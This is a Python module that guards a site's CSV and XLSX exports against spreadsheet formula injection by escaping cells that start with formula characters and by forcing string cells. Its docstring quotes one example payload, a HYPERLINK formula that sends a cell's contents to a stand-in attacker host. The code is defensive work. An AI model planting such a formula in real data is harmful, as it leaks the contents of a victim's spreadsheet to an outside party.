"""Cells that a spreadsheet never runs: every CSV and XLSX the site writes goes through here.

A name such as `=HYPERLINK("https://evil.example/?"&A1)` typed into a booking form must reach the
accountant's Excel as text, not as a formula (CSV/formula injection, OWASP). In CSV a text cell
that starts with `=`, `+`, `-`, `@`, a tab or a carriage return gets a leading `'`; in XLSX every
string is written as a string cell, never a formula. Numbers, dates and times stay what they are
(a negative amount too).
"""

import csv
import io
import re

from openpyxl.cell.cell import TYPE_STRING

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_NUMBER = re.compile(r"-?\d+([.,]\d+)?")  # a negative amount (-12,50) stays a number


def csv_text(value: str) -> str:
    """A cell as CSV must carry it: with a leading `'` when Excel would read it as a formula."""
    if value.startswith(FORMULA_STARTS) and not _NUMBER.fullmatch(value):
        return "'" + value
    return value


def csv_bytes(rows, *, delimiter: str = ";", bom: bool = True) -> bytes:
    """Rows of already formatted text cells as UTF-8 CSV (with a BOM for Excel, by default);
    every cell passes csv_text."""
    out = io.StringIO()
    writer = csv.writer(out, delimiter=delimiter, lineterminator="\r\n")
    for row in rows:
        writer.writerow([csv_text(str(cell)) for cell in row])
    return (("\ufeff" if bom else "") + out.getvalue()).encode("utf-8")


def sheet_append(sheet, values) -> None:
    """Appends one row to an openpyxl sheet; a string is always a string cell (openpyxl would
    store one that starts with `=` as a formula)."""
    values = list(values)
    sheet.append(values)
    row = sheet.max_row
    for column, value in enumerate(values, start=1):
        if isinstance(value, str):
            cell = sheet.cell(row, column)
            cell.value = value
            cell.data_type = TYPE_STRING
